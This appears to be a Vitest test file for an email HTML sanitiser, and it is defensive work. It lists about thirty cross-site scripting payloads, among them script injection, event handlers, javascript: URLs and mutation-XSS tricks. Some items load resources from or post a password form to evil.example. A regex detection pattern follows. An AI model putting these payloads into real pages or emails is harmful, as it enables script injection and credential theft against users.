import { expect, test } from 'vitest'
import { cleanHtml } from '#lib/email/clean-html.ts'

/** Ways in which something has run in somebody's mail program or console. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<style>@import "https://evil.example/x.css"; body{background:url(javascript:alert(1))}</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="behavior:url(#x)">x</p>',
  '<div onclick="alert(1)" onmouseover=alert(1)>x</div>',
  '<body onload=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>',
  '<a href="//evil.example">x</a>',
]

const dangerous =
  /<\/?(script|style|iframe|object|embed|form|input|button|link|meta|base|svg|math|template|video|source|body|details)\b|\son\w+\s*=|javascript:|vbscript:|data:(?!image\/(png|jpeg|gif|webp))|expression\(|url\(|@import|href="\/\//i

test.each(attacks)('[ML-5] %j leaves nothing that runs, loads or posts', (attack) => {
  expect(cleanHtml(`<p>Before</p>${attack}`)).not.toMatch(dangerous)
})

test('[ML-5] what mail programs draw stays as it was written', () => {
  const kept =
    '<table width="600" cellpadding="0" style="border-collapse:collapse"><tbody><tr><td align="center" style="padding:12px 24px;background-color:#f4f4f5;font-family:Arial, sans-serif">Hello {{first_name|there}}</td></tr></tbody></table><p><a href="https://halden.example/x?a=1&amp;b={{email}}" target="_blank">Read</a> <a href="{{unsubscribe}}" target="_blank">Bye</a></p><img src="https://halden.example/logo.png" alt="Halden" width="120" />'
  expect(cleanHtml(kept)).toBe(kept)
})
